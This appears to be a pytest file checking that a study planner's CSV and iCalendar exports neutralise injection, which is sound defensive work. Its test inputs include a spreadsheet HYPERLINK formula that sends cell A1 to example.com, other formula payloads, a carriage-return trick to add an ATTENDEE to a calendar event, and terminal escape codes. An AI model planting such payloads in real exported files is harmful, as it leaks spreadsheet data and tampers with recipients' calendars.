"""Plan exports that other programs read: CSV for spreadsheets and iCalendar for calendars."""

from __future__ import annotations

import csv
import io
from datetime import time

import pytest
from icalendar import Calendar

from studyplanner.core.planning.plan import MilestoneKind, Plan, PlannedMilestone, PlannedSession
from studyplanner.core.roadmap.model import Roadmap
from studyplanner.interop.ics import MAX_TEXT_CHARS, plan_to_ics
from studyplanner.interop.plan_csv import COLUMNS, plan_to_csv
from tests.conftest import MONDAY, NOW


def plan_of(*titles: str, minutes: int = 30) -> Plan:
    """A plan with a session of each title on Monday, and a milestone on Tuesday."""
    sessions = tuple(
        PlannedSession(f"python/{n}", "python", "basics", title, MONDAY, minutes, time(9, n))
        for n, title in enumerate(titles, 1)
    )
    milestone = PlannedMilestone(
        "stage:basics",
        MilestoneKind.STAGE_END,
        "basics",
        "basics",
        titles[0],
        MONDAY.replace(day=3),
    )
    return Plan("small", MONDAY, 1.0, sessions, (milestone,), ())


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


# CSV


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t"])
def test_a_cell_that_starts_like_a_formula_is_quoted_text(
    small_roadmap: Roadmap, first: str
) -> None:
    title = f'{first}HYPERLINK("http://example.com/?"&A1,"Click")'
    text = plan_to_csv(plan_of(title), small_roadmap)
    session, milestone = csv_rows(text)
    assert session["title"] == milestone["title"] == f"'{title}"
    defused = '"' + f"'{title}".replace('"', '""') + '"'
    assert text.splitlines()[1].split(",", 3)[3].startswith(defused)


def test_a_carriage_return_at_the_start_is_a_newline_and_no_formula_follows(
    small_roadmap: Roadmap,
) -> None:
    [session, _] = csv_rows(plan_to_csv(plan_of("\r=1+1"), small_roadmap))
    assert session["title"] == "\n=1+1"


def test_stage_titles_are_defused_too(small_roadmap: Roadmap) -> None:
    stage = small_roadmap.stages[0].model_copy(update={"title": "@SUM(1+1)"})
    roadmap = small_roadmap.model_copy(update={"stages": (stage, *small_roadmap.stages[1:])})
    rows = csv_rows(plan_to_csv(plan_of("Python"), roadmap))
    assert [row["stage"] for row in rows] == ["'@SUM(1+1)"] * 2


def test_numbers_stay_numbers_and_plain_text_stays_as_it_is(small_roadmap: Roadmap) -> None:
    text = plan_to_csv(plan_of("Learn a=b", minutes=-5), small_roadmap)
    header, session, milestone = text.splitlines()
    assert header == ",".join(COLUMNS)
    assert session.split(",")[5] == "-5"  # unquoted, so a spreadsheet reads a number
    assert milestone.split(",")[5] == '""'  # a milestone has no minutes
    # Read as a spreadsheet would: what is not quoted is a number.
    [typed] = csv.reader(io.StringIO(session), quoting=csv.QUOTE_NONNUMERIC)
    assert typed[3] == "Learn a=b"
    assert typed[5] == -5.0  # type: ignore[comparison-overlap]  # typeshed says str
    assert csv_rows(text)[0]["actual_minutes"] == ""


def test_control_codes_never_reach_a_csv(small_roadmap: Roadmap) -> None:
    text = plan_to_csv(plan_of("a\x00b\x1b[31mc\x07d\x9b2J"), small_roadmap)
    assert not any(ch in text for ch in "\x00\x1b\x07\x9b")
    assert csv_rows(text)[0]["title"] == "ab[31mcd2J"


# iCalendar, read back with the icalendar package's own parser


def events(data: bytes) -> list[dict[str, str]]:
    calendar = Calendar.from_ical(data)
    return [
        {name.lower(): str(value) for name, value in event.property_items()[1:]}
        for event in calendar.walk("VEVENT")
    ]


def test_a_carriage_return_in_a_title_cannot_add_a_property(small_roadmap: Roadmap) -> None:
    data = plan_to_ics(plan_of("Python\rATTENDEE:mailto:all@example.com\r"), small_roadmap, NOW)
    session, milestone = events(data)
    assert "attendee" not in session and "attendee" not in milestone
    assert session["summary"] == "Study: Python\nATTENDEE:mailto:all@example.com\n (30 min)"
    assert b"\r\nATTENDEE" not in data and b"\rATTENDEE" not in data


def test_control_codes_never_reach_a_calendar(small_roadmap: Roadmap) -> None:
    data = plan_to_ics(plan_of("a\x00b\x1b[31mc\x07d\x7f"), small_roadmap, NOW)
    assert not any(ch in data for ch in b"\x00\x1b\x07\x7f")
    session, milestone = events(data)
    assert session["summary"] == "Study: ab[31mcd (30 min)"
    assert milestone["summary"] == "ab[31mcd"


def test_a_huge_title_is_cut_to_what_a_calendar_shows(small_roadmap: Roadmap) -> None:
    data = plan_to_ics(plan_of("x" * 1_000_000), small_roadmap, NOW)
    assert len(data) < 10_000
    session, milestone = events(data)
    assert session["summary"] == f"Study: {'x' * (MAX_TEXT_CHARS - 1)}… (30 min)"
    assert milestone["summary"] == "x" * (MAX_TEXT_CHARS - 1) + "…"
